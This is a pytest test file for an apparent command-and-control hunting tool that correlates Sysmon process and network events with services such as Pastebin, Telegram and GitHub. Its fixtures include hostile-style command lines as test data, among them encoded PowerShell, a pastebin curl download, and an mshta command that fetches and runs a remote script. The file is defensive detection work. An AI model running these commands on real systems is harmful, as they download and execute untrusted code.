from __future__ import annotations

from typing import Any

import pytest

from c2hunt import knowledge
from c2hunt.detect.testing import hunt_rows, sysmon


def pair(
    host: str,
    image: str = r"C:\Windows\System32\curl.exe",
    original: str | None = None,
    cmd: str = "curl -s x",
    parent: str = r"C:\Windows\explorer.exe",
    **conn: Any,
) -> list[dict[str, Any]]:
    """A process creation and its connection, named by the connection's own hostname."""
    return [
        sysmon(
            1,
            ProcessGuid="{P}",
            ProcessId=5,
            Image=image,
            OriginalFileName=original,
            CommandLine=cmd,
            ParentImage=parent,
            User="CORP\\ann",
            IntegrityLevel="Medium",
        ),
        sysmon(
            3,
            ProcessGuid="{P}",
            ProcessId=5,
            Image=image,
            DestinationIp="10.9.9.9",
            DestinationPort=443,
            DestinationHostname=host,
            **conn,
        ),
    ]


@pytest.mark.parametrize(
    ("host", "service"),
    [
        ("t.me", "Telegram"),
        ("api.t.me", "Telegram"),
        ("chat.meetup.com", None),
        ("x.com", "X"),
        ("dropbox.com", "Dropbox"),
        ("github.com.evil.net", None),
        ("gist.github.com", "GitHub Gist"),  # the longest listed domain wins
        ("api.github.com", "GitHub API"),
        ("raw.githubusercontent.com", "GitHub"),
        ("evilgithub.com", None),
        ("hooks.slack.com", "Slack webhooks"),
        ("slack.com", None),
    ],
)
def test_services_match_on_label_boundaries(host: str, service: str | None) -> None:
    findings = hunt_rows(pair(host))
    assert [f["service"] for f in findings] == ([service] if service else [])


@pytest.mark.parametrize(
    ("image", "original", "found"),
    [
        (r"C:\Windows\System32\curl.exe", None, True),
        (r"C:\Users\a\AppData\Local\Temp\svc.exe", "PowerShell.EXE", True),  # renamed powershell
        (r"C:\x\notpowershell.exe", None, False),
        (r"C:\x\POWERSHELL.EXE", None, True),
        (r"C:\Windows\System32\svchost.exe", "svchost.exe", False),
        (r"C:\x\msxsl.exe", None, True),  # beyond the spec's 17
    ],
)
def test_binaries_by_image_name_or_original_file_name(
    image: str, original: str | None, found: bool
) -> None:
    assert len(hunt_rows(pair("pastebin.com", image, original))) == int(found)


@pytest.mark.parametrize(
    ("cmd", "parent", "flags"),
    [
        ("powershell -EncodedCommand SQBFAFgA", r"C:\x\explorer.exe", (1, 0, 0, 1)),
        ("powershell -enc SQBFAFgA", r"C:\x\explorer.exe", (1, 0, 0, 1)),
        ("powershell -enc", r"C:\x\explorer.exe", (0, 0, 0, 0)),
        (
            "[Convert]::FromBase64String($x)",
            r"C:\Program Files\Microsoft Office\WINWORD.EXE",
            (1, 1, 0, 2),
        ),
        ("curl -s https://pastebin.com/raw/x", r"C:\Windows\System32\svchost.exe", (0, 0, 1, 1)),
        ("curl", r"C:\Windows\System32\taskhostw.exe", (0, 0, 1, 1)),
        ("curl", r"C:\Windows\System32\wbem\WmiPrvSE.exe", (0, 0, 1, 1)),
        ("curl", r"C:\x\myexcel.exe", (0, 1, 0, 1)),
    ],
)
def test_flags_are_the_intended_regexes_on_the_correlated_process(
    cmd: str, parent: str, flags: tuple[int, int, int, int]
) -> None:
    (finding,) = hunt_rows(pair("pastebin.com", cmd=cmd, parent=parent))
    assert tuple(finding[c] for c in knowledge.packaged().spec_fields[10:]) == flags


def test_a_finding_carries_the_correlated_fields() -> None:
    (finding,) = hunt_rows(pair("pastebin.com", cmd="curl https://pastebin.com/raw/x", User=None))
    assert [finding[c] for c in knowledge.packaged().spec_fields[:10]] == [
        1_000_000,
        "HOST",
        "CORP\\ann",
        r"C:\Windows\System32\curl.exe",
        "curl https://pastebin.com/raw/x",
        r"C:\Windows\explorer.exe",
        None,
        "pastebin.com",
        "10.9.9.9",
        443,
    ]
    assert (finding["lineage_source"], finding["dest_source"], finding["IntegrityLevel"]) == (
        "sysmon_1",
        "hostname",
        "Medium",
    )


def test_inbound_connections_are_not_findings() -> None:
    assert hunt_rows(pair("pastebin.com", Initiated=False)) == []


def test_unknown_process_takes_the_image_of_its_creation() -> None:
    zero = "{00000000-0000-0000-0000-000000000000}"
    rows = [
        sysmon(
            1,
            ProcessGuid="{M}",
            ProcessId=10076,
            Image=r"C:\Windows\System32\mshta.exe",
            CommandLine="mshta javascript:GetObject('script:https://raw.githubusercontent.com/a')",
            _messageTime=2_000,
        ),
        sysmon(
            3,
            ProcessGuid=zero,
            ProcessId=10076,
            Image="<unknown process>",
            DestinationIp="151.101.248.133",
            DestinationPort=443,
            _messageTime=1_500,
        ),
        sysmon(
            22,
            ProcessGuid=zero,
            ProcessId=10076,
            Image="<unknown process>",
            QueryName="raw.githubusercontent.com",
            QueryResults="type:  5 github.map.fastly.net;::ffff:151.101.248.133;",
            _messageTime=1_503,
        ),
    ]
    (finding,) = hunt_rows(rows)
    assert (finding["Image"], finding["dest_name"], finding["dest_source"]) == (
        r"C:\Windows\System32\mshta.exe",
        "raw.githubusercontent.com",
        "dns_process",
    )
    assert finding["lineage_source"] == "sysmon_1_by_pid"
    assert [e.kind for e in finding.evidence][:3] == ["connection", "destination", "lineage"]
